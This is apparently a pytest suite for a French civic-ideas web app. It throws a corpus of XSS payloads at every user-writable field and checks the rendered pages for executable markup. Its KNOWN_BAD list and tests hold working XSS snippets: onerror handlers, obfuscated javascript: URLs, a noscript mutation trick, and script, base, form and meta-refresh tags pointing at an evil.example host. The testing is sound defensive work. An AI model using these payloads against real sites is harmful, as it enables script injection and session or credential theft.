"""XSS: a corpus of hostile payloads (tests/contributions/xss_payloads.txt)
thrown at everything a person can write that the contribution pages show —
titles, texts, comments, referents' answers, pseudonyms — and then the
rendered pages are searched for anything a browser would execute.

Each payload of the corpus goes once, deterministically, into each field;
hypothesis then throws combinations of them (with line breaks and quotes in
between) at the same fields, and at the registration and contribution forms
that show a refused text back. The checker walks the whole page with the
standard library's HTMLParser, then a second time with the html5lib that
bleach vendors (it builds the tree a browser with JavaScript on would build:
<noscript> as raw text, foreign content, misnested markup), and it is itself
tested against known-bad snippets so that it can fail."""
from __future__ import annotations

import re
import unicodedata
from functools import lru_cache
from html import unescape
from html.parser import HTMLParser
from itertools import count
from pathlib import Path
from typing import Iterable, Optional

import markupsafe
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from labo.accounts.models import User
from labo.accounts.services import PSEUDONYM_RE, pseudonym_key
from labo.contributions import services
from labo.contributions.models import Comment, Contribution
from labo.contributions.services import BODY_MAX, COMMENT_MAX, TITLE_MAX
from labo.core.sanitize import plain_text
from labo.core.sanitize import ALLOWED_TAGS
from labo.extensions import db
from tests.conftest import Auth, csrf_from
from tests.factories import PASSWORD, commune, create_referent, create_user


@pytest.fixture(autouse=True)
def many_posts_allowed(app):
    """These tests post hundreds of times as one person: lift the write limit
    (its own test is in test_contributions.py)."""
    previous = app.config["LABO_WRITE_RATE_LIMIT"]
    app.config["LABO_WRITE_RATE_LIMIT"] = "100000 per minute"
    yield
    app.config["LABO_WRITE_RATE_LIMIT"] = previous

try:  # the copy bleach ships; only used as a second opinion
    from bleach._vendor import html5lib
except ImportError:  # pragma: no cover
    html5lib = None

CORPUS = Path(__file__).with_name("xss_payloads.txt")


def load_corpus(path: Path = CORPUS) -> list[str]:
    """One payload a line, `#` lines are comments. Split on "\\n" only:
    some payloads hold characters that str.splitlines() would cut on."""
    lines = path.read_text(encoding="utf-8").split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    return [line for line in lines if not line.startswith("#")]


PAYLOADS = load_corpus()


# --- the checker ----------------------------------------------------------

# Attributes holding a URL (or a document) that a browser may load or run.
URL_ATTRIBUTES = frozenset({
    "href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster",
    "lowsrc", "dynsrc", "cite", "ping", "codebase", "code", "classid", "archive", "longdesc",
    "manifest", "icon", "usemap", "profile", "srcset", "imagesrcset",
})
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
# The site puts none of these in any page, and content must not bring them.
FORBIDDEN_ELEMENTS = frozenset({
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math", "style",
    "portal", "fencedframe",
})


def normalize_url(value: str) -> str:
    """What a browser compares against a scheme: the attribute value as the
    parser hands it over (HTML-unescaped once, as by a browser: unescaping it
    a second time would see "javascript:" in a harmless relative link like
    "javascript&amp;colon;…"), without whitespace, control or invisible
    format characters, lower-cased."""
    return "".join(
        ch for ch in value
        if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"))
    ).lower()


def is_script_url(value: str) -> bool:
    candidates = [value]
    if "," in value:  # srcset-like lists: every candidate URL
        candidates += value.split(",")
    return any(normalize_url(v).startswith(SCRIPT_SCHEMES) for v in candidates)


def is_site_path(value: str) -> bool:
    value = normalize_url(value)
    return value.startswith("/") and not value.startswith(("//", "/\\"))


def element_problems(tag: str, attrs: Iterable[tuple[str, Optional[str]]]) -> list[str]:
    """Everything executable (or able to load something executable) about
    one start tag; an empty list when it is harmless."""
    tag = tag.lower()
    attrs = [(name.lower(), value if value is not None else "") for name, value in attrs]
    values = dict(attrs)
    problems = []
    if tag == "script" and not ("src" in values and normalize_url(values["src"]).startswith("/static/")):
        problems.append("a <script> that is not the site's own /static/ file")
    if tag in FORBIDDEN_ELEMENTS:
        problems.append(f"a <{tag}> element")
    if tag == "meta" and "http-equiv" in values:
        problems.append("a <meta http-equiv>")
    if tag == "form" and "action" in values and not is_site_path(values["action"]):
        problems.append("a <form> posting outside the site")
    if tag == "link" and not normalize_url(values.get("href", "")).startswith("/static/"):
        problems.append("a <link> to something other than /static/")
    for name, value in attrs:
        if name.startswith("on"):
            problems.append(f"an event handler attribute {name}=")
        elif name == "style":
            problems.append("a style= attribute")
        elif name in URL_ATTRIBUTES and is_script_url(value):
            problems.append(f"{name}= with a javascript:/vbscript:/data: URL")
        elif name == "formaction" and not is_site_path(value):
            problems.append("a formaction= outside the site")
    return problems


class PageChecker(HTMLParser):
    """Walks a whole page and lists what a browser could execute in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def _flag(self, problems: list[str]) -> None:
        if problems:
            line, col = self.getpos()
            raw = self.get_starttag_text() or ""
            self.problems += [f"{p} at {line}:{col}: {raw[:200]!r}" for p in problems]

    def handle_starttag(self, tag, attrs):
        self._flag(element_problems(tag, attrs))
        if tag == "script":
            self._in_script = True

    def handle_startendtag(self, tag, attrs):
        self._flag(element_problems(tag, attrs))

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            line, col = self.getpos()
            self.problems.append(f"inline script text at {line}:{col}: {data[:200]!r}")


def _html5lib_problems(source: str) -> list[str]:
    """The same rules over the tree a browser would build (foreign content,
    implied tags, misnested markup and all)."""
    problems = []
    parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
    root = parser.parse(source, scripting=True)  # as a browser with JavaScript on: <noscript> is raw text
    for element in root.iter():
        if not isinstance(element.tag, str):  # comments
            continue
        tag = element.tag.rsplit("}", 1)[-1]
        attrs = []
        for name, value in element.attrib.items():
            if name.startswith("{"):
                namespace, local = name[1:].split("}", 1)
                name = f"xlink:{local}" if namespace.endswith("/xlink") else local
            attrs.append((name, value))
        found = element_problems(tag, attrs)
        if tag == "script" and (element.text or "").strip():
            found.append(f"inline script text {element.text[:200]!r}")
        problems += [f"{p} (html5lib: <{tag} {dict(attrs)}>)" for p in found]
    return problems


def executable_problems(source: str, thorough: bool = False) -> list[str]:
    checker = PageChecker()
    checker.feed(source)
    checker.close()
    problems = checker.problems
    if thorough and html5lib is not None:
        problems = problems + _html5lib_problems(source)
    return problems


TAG_FRAGMENT = re.compile(r"<[A-Za-z][\w:-]*(?:[\s/][^<>]*)?>?")
ACTIVE = re.compile(r"\bon\w*\s*=|\bstyle\s*=|(?:javascript|vbscript|livescript|data)\s*:|&#|&colon", re.I)
# Elements that act (or swallow the page) even with no attribute at all.
BARE_DANGEROUS = frozenset({
    "script", "style", "iframe", "frame", "frameset", "svg", "math", "object", "embed", "applet", "base",
    "noscript", "noembed", "noframes", "template", "xmp", "plaintext", "listing", "textarea", "select",
    "form", "marquee",
})


@lru_cache(maxsize=None)
def active_fragments(payload: str) -> tuple[str, ...]:
    """The complete tags of `payload` that would act if they reached the
    page as they are: a tag carrying a handler, a style, a script-ish URL or
    an entity; an element the sanitiser does not allow, with attributes; or
    one that acts even bare (<script>, <svg>…). Allowed, harmless tags
    (<p>, <a href="http…">) are left out: the sanitiser rightly keeps those,
    and so are bare harmless ones the site itself writes (<body>, <summary>)."""
    fragments = []
    for match in TAG_FRAGMENT.finditer(payload):
        fragment = match.group()
        name = re.match(r"<([\w:-]+)", fragment).group(1).lower()
        if len(fragment) == len(name) + 1:  # a bare "<name" at the end: nothing to find
            continue
        bare = fragment in (f"<{name}>", f"<{name}/>", f"<{name} />")
        if ACTIVE.search(fragment) or name in BARE_DANGEROUS or (name not in ALLOWED_TAGS and not bare):
            fragments.append(fragment)
    return tuple(fragments)


def leaked_fragments(source: str, payloads: Iterable[str]) -> list[str]:
    return [
        f"payload markup {fragment!r} appears unescaped (from payload {payload!r})"
        for payload in payloads for fragment in active_fragments(payload) if fragment in source
    ]


def assert_safe(source: str, where: str, payloads: Iterable[str] = (), thorough: bool = False) -> None:
    problems = executable_problems(source, thorough=thorough) + leaked_fragments(source, payloads)
    assert not problems, f"{where}:\n  " + "\n  ".join(problems[:20])


def escaped(text: str) -> str:
    """How Jinja's autoescape writes a plain-text field."""
    return str(markupsafe.escape(text))


# --- driving the site -----------------------------------------------------

ID_IN_LOCATION = re.compile(r"/idees/(\d+)")


class Browser:
    """One logged-in test client that reuses its session's CSRF token (one
    login per test: logins are rate-limited)."""

    def __init__(self, client, user: User):
        self.client = client
        self.user = user
        response = Auth(client).login(user.email, PASSWORD)
        assert response.status_code == 302, "login failed"
        self.token = csrf_from(client.get("/idees/nouvelle").get_data(as_text=True))

    def post(self, path: str, data: dict):
        return self.client.post(path, data={"csrf_token": self.token, **data})

    def page(self, path: str) -> str:
        response = self.client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        return response.get_data(as_text=True)

    def new_contribution(self, title: str, body: str) -> int:
        response = self.post("/idees/nouvelle", {
            "kind": "idee", "title": title, "body": body, "commune": str(commune("lens").id),
        })
        assert response.status_code == 302, (title, body, response.status_code)
        return int(ID_IN_LOCATION.search(response.headers["Location"]).group(1))

    def comment(self, contribution_id: int, body: str) -> None:
        response = self.post(f"/idees/{contribution_id}/commenter", {"body": body})
        assert response.status_code == 302, (body, response.status_code)

    def answer(self, contribution_id: int, text: str, status: str = "retenue") -> None:
        response = self.post(f"/idees/{contribution_id}/reponse", {"status": status, "answer": text})
        assert response.status_code == 302, (text, response.status_code)

    def list_pages(self) -> list[str]:
        pages, number = [], 1
        while True:
            pages.append(self.page(f"/idees/?page={number}"))
            if "Page suivante" not in pages[-1]:
                return pages
            number += 1


@pytest.fixture
def resident(client):
    return Browser(client, create_user(home="lens"))


@pytest.fixture
def referent(app):
    return Browser(app.test_client(), create_referent("lens"))


def as_title(payload: str) -> str:
    return payload[:TITLE_MAX]


def hostile_user(pseudonym: str) -> User:
    """A user whose pseudonym is `pseudonym`, however it got into the
    database. Two payloads may fold to the same pseudonym key (they differ
    only by case): the second one then gets a key of its own."""
    if db.engine.dialect.name != "sqlite":
        pseudonym = pseudonym[:40]  # the column's size outside SQLite
    if db.session.scalar(select(User.id).where(User.pseudonym_key == pseudonym_key(pseudonym))) is None:
        return create_user(pseudonym=pseudonym)
    user = create_user()
    user.pseudonym = pseudonym
    db.session.commit()
    return user


def post_as(user: User, title: str = "Une idée", body: str = "Un texte.") -> Contribution:
    contribution = services.create_contribution(
        {}, user, kind="idee", title=title, body=body, commune=commune("lens"),
    )
    db.session.commit()
    return contribution


def chunks(items: list, size: int):
    for start in range(0, len(items), size):
        yield items[start:start + size]


# --- the corpus and the checker themselves ----------------------------------


def test_corpus_has_at_least_250_distinct_payloads_one_per_line():
    text = CORPUS.read_text(encoding="utf-8")
    lines = text.split("\n")[:-1]
    assert text.endswith("\n")
    assert lines == text.splitlines(), "a payload holds a character that splits lines"
    assert all(line.strip() for line in lines), "blank line in the corpus"
    assert len(PAYLOADS) >= 250
    assert len(set(PAYLOADS)) == len(PAYLOADS), "duplicate payloads"


KNOWN_BAD = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
    '<script src="/static/js/draft.js">alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<p ONCLICK="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVa&#x09;ScRiPt&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img srcset="ok.png 1x, javascript:alert(1) 2x">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object>',
    '<embed src="x">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<form action="//evil.example/"><input name=q></form>',
    '<form action="javascript:alert(1)"></form>',
    '<button formaction="https://evil.example/">x</button>',
    '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mi>x</mi></math>',
    '<style>*{}</style>',
    '<div style="background:url(x)">x</div>',
    '<link rel=stylesheet href="//evil.example/x.css">',
]


@pytest.mark.parametrize("snippet", KNOWN_BAD)
def test_checker_flags_known_bad_html(snippet):
    page = f"<!doctype html><html><body><p>before</p>{snippet}<p>after</p></body></html>"
    assert executable_problems(page), snippet
    if html5lib is not None:
        assert _html5lib_problems(page), snippet


def test_checker_reads_the_browsers_tree_too():
    # Only a browser-grade parser sees that this <p> title ends in the <noscript>.
    page = '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    if html5lib is not None:
        assert _html5lib_problems(page)
    assert executable_problems(page, thorough=True)


def test_leak_check_flags_unescaped_payload_markup_and_not_escaped_markup():
    payload = '"><img src=x onerror=alert(1)>'
    assert leaked_fragments('<p title="x"><img src=x onerror=alert(1)></p>', [payload])
    assert not leaked_fragments("<p>&#34;&gt;&lt;img src=x onerror=alert(1)&gt;</p>", [payload])
    assert not leaked_fragments('<p><a href="http://example.org" rel="nofollow noopener">x</a></p>',
                                ['<a href="http://example.org">x</a>'])
    assert active_fragments('<a href="javascript:alert(1)">x</a>') == ('<a href="javascript:alert(1)">',)
    assert active_fragments("<body") == active_fragments("<summary>x</summary>") == ()


def test_the_sites_own_pages_pass_the_checker(resident, referent):
    """No false alarms: the pages as the site makes them, draft.js included."""
    contribution_id = resident.new_contribution("Des bancs", 'Près de l\'arrêt : <a href="https://example.org">plan</a>')
    resident.comment(contribution_id, "Bonne idée")
    referent.answer(contribution_id, "Retenue, pour le printemps.")
    pages = {
        "/": resident.page("/"),
        "/idees/": resident.page("/idees/"),
        "/idees/nouvelle": resident.page("/idees/nouvelle"),
        "detail": resident.page(f"/idees/{contribution_id}"),
        "detail (referent)": referent.page(f"/idees/{contribution_id}"),
        "/moderation/": referent.page("/moderation/"),
        "notifications": resident.page("/compte/notifications/"),
    }
    assert '<script src="/static/js/draft.js?v=' in pages["/idees/nouvelle"]
    for where, source in pages.items():
        assert_safe(source, where, thorough=True)


# --- every payload, once, in every field ------------------------------------


def test_every_payload_as_title_body_and_answer(resident, referent):
    """Posted through the form by a resident, answered by a referent, read
    by the resident; every 25 payloads, the referent's own page of the
    contribution too, whose merge list shows the 30 latest titles."""
    titles = []
    for number, payload in enumerate(PAYLOADS):
        contribution_id = resident.new_contribution(as_title(payload), payload)
        referent.answer(contribution_id, payload, status=("retenue", "en_etude", "realisee")[number % 3])
        stored = db.session.get(Contribution, contribution_id)
        titles.append(plain_text(as_title(payload)))
        source = resident.page(f"/idees/{contribution_id}")
        assert escaped(titles[-1]) in source, payload
        assert stored.body and stored.body in source, payload
        assert stored.answer and stored.answer in source, payload
        assert_safe(source, f"detail page, title, body and answer {payload!r}", [payload], thorough=True)
        if number % 25 == 24 or number == len(PAYLOADS) - 1:
            chunk = PAYLOADS[number - number % 25:number + 1]
            source = referent.page(f"/idees/{contribution_id}")
            assert all(escaped(title) in source for title in titles[-len(chunk):])
            assert_safe(source, f"detail page (referent), titles {chunk!r}", chunk, thorough=True)
        if number % 50 == 49 or number == len(PAYLOADS) - 1:  # the 50 latest answers, sent to the author
            chunk = PAYLOADS[number - number % 50:number + 1]
            assert_safe(resident.page("/compte/notifications/"), f"notifications for {chunk!r}", chunk, thorough=True)
    pages = resident.list_pages()
    for number, source in enumerate(pages, 1):
        assert_safe(source, f"list page {number}", PAYLOADS, thorough=True)
    everything = "".join(pages)
    assert all(escaped(title) in everything for title in titles)
    assert_safe(referent.page("/moderation/"), "moderation queue", PAYLOADS, thorough=True)


def test_every_payload_as_comment(resident):
    for chunk in chunks(PAYLOADS, 25):
        contribution_id = resident.new_contribution("Une idée à commenter", "Qu'en pensez-vous ?")
        for payload in chunk:
            resident.comment(contribution_id, payload[:COMMENT_MAX])
        source = resident.page(f"/idees/{contribution_id}")
        bodies = db.session.scalars(select(Comment.body).where(Comment.contribution_id == contribution_id)).all()
        assert len(bodies) == len(chunk)
        assert all(body and body in source for body in bodies)
        assert_safe(source, f"detail page with comments {chunk!r}", chunk, thorough=True)


def test_every_payload_as_pseudonym(resident):
    """The registration form refuses nearly all of these (see the hypothesis
    test below): the pseudonyms are put in the database directly, as if they
    had got there some other way, then shown as authors of a contribution
    (its page and the list) and of comments (25 commenters a page)."""
    names, host_id = [], None
    for number, payload in enumerate(PAYLOADS):
        user = hostile_user(payload)
        names.append(user.pseudonym)
        contribution = post_as(user)
        if number % 25 == 0:
            host_id = contribution.id
        services.add_comment(user, db.session.get(Contribution, host_id), "Je suis d'accord.")
        db.session.commit()
        source = resident.page(f"/idees/{contribution.id}")
        assert escaped(user.pseudonym) in source, payload
        assert_safe(source, f"detail page, author {payload!r}", [payload], thorough=True)
        if number % 25 == 24 or number == len(PAYLOADS) - 1:
            chunk = PAYLOADS[number - number % 25:number + 1]
            source = resident.page(f"/idees/{host_id}")
            assert all(escaped(name) in source for name in names[-len(chunk):])
            assert_safe(source, f"detail page, comment authors {chunk!r}", chunk, thorough=True)
    pages = resident.list_pages()
    for number, source in enumerate(pages, 1):
        assert_safe(source, f"list page {number}", PAYLOADS, thorough=True)
    everything = "".join(pages)
    assert all(escaped(name) in everything for name in names)


# --- hypothesis: combinations -------------------------------------------------

payload = st.sampled_from(PAYLOADS)
glue = st.sampled_from(["", " ", "\n", "\n\n", "\r\n", '"', "'", ">", "<", "</p>", "<p>", '<a href="', "-->", "&"])
combination = st.lists(st.tuples(payload, glue), min_size=1, max_size=3).map(
    lambda parts: "".join(p + g for p, g in parts).strip() or parts[0][0]
)
# No "explain" phase: it re-runs a failing example under a tracer, minutes
# here; the shrunk example and the checker's message say enough.
HYPOTHESIS = settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
    phases=[Phase.explicit, Phase.reuse, Phase.generate, Phase.target, Phase.shrink],
)


def parts_of(text: str) -> list[str]:
    return [p for p in PAYLOADS if p in text]


@HYPOTHESIS
@given(title=combination, body=combination, comment=combination)
def test_combined_payloads_in_title_body_and_comment(resident, title, body, comment):
    title, body, comment = as_title(title), body[:BODY_MAX], comment[:COMMENT_MAX]
    if not plain_text(title):
        title = "Titre"
    contribution_id = resident.new_contribution(title, body)
    resident.comment(contribution_id, comment)
    source = resident.page(f"/idees/{contribution_id}")
    assert escaped(plain_text(title)) in source
    used = parts_of(title + body + comment)
    assert_safe(source, f"detail page: title {title!r}, body {body!r}, comment {comment!r}", used, thorough=True)
    assert_safe(resident.page("/idees/"), f"list page with title {title!r}", used, thorough=True)


@HYPOTHESIS
@given(answer=combination, reason=combination, title=combination)
def test_combined_payloads_in_the_referents_texts(resident, referent, answer, reason, title):
    """The answer (rich text), the reason for hiding (plain text, shown to
    the author and the referents) and a title in the referent's merge list."""
    post_as(resident.user, title=plain_text(as_title(title)) or "Titre")
    contribution = post_as(resident.user)
    referent.answer(contribution.id, answer[:BODY_MAX])
    response = referent.post(f"/idees/{contribution.id}/masquer", {"reason": reason[:1000]})
    assert response.status_code == 302
    used = parts_of(answer + reason + title)
    for who, browser in (("author", resident), ("referent", referent)):
        source = browser.page(f"/idees/{contribution.id}")
        assert escaped(plain_text(reason[:1000])) in source
        assert_safe(source, f"detail page ({who}): answer {answer!r}, reason {reason!r}, title {title!r}", used,
                    thorough=True)


@pytest.fixture
def visitor(app):
    """A logged-out client for the registration form, with its CSRF token."""
    client = app.test_client()
    return client, csrf_from(client.get("/compte/inscription").get_data(as_text=True))


_registrations = count(1)


@HYPOTHESIS
@given(pseudonym=st.one_of(payload, combination))
def test_hostile_pseudonyms_through_registration_and_in_pages(visitor, resident, pseudonym):
    """Registration first (a refusal shows the pseudonym back in its field);
    what it refuses goes into the database directly. Then shown as author."""
    client, token = visitor
    n = next(_registrations)
    email = f"inscription{n}@example.org"
    response = client.post("/compte/inscription", data={
        "csrf_token": token, "pseudonym": pseudonym, "email": email, "password": PASSWORD,
        "home_commune": "", "age_band": "",
    }, environ_base={"REMOTE_ADDR": f"10.1.{n // 250}.{n % 250 + 1}"})  # 5 a minute per address
    used = parts_of(pseudonym)
    if response.status_code == 302:
        assert PSEUDONYM_RE.match(pseudonym.strip())
        user = db.session.scalar(select(User).where(User.pending_email == email))
        # Registering signs in: sign out, for the next example to register afresh.
        client.post("/compte/deconnexion", data={"csrf_token": token})
    else:
        assert_safe(response.get_data(as_text=True), f"registration refused for {pseudonym!r}", used, thorough=True)
        user = hostile_user(pseudonym)
    contribution = post_as(user)
    services.add_comment(user, contribution, "Un commentaire.")
    db.session.commit()
    source = resident.page(f"/idees/{contribution.id}")
    assert source.count(escaped(user.pseudonym)) >= 2  # as author and as commenter
    assert_safe(source, f"detail page, pseudonym {pseudonym!r}", used, thorough=True)
    assert_safe(resident.page("/idees/"), f"list page, pseudonym {pseudonym!r}", used, thorough=True)


@HYPOTHESIS
@given(title=combination, body=combination)
def test_refused_contribution_form_shows_the_text_back_safely(resident, title, body):
    """A refused form (no commune here) is shown again with what was typed."""
    response = resident.post("/idees/nouvelle", {"kind": "idee", "title": title, "body": body, "commune": ""})
    assert response.status_code == 422
    source = response.get_data(as_text=True)
    assert title.strip()[:20] in unescape(source) or not title.strip()
    assert_safe(source, f"refused form: title {title!r}, body {body!r}", parts_of(title + body), thorough=True)
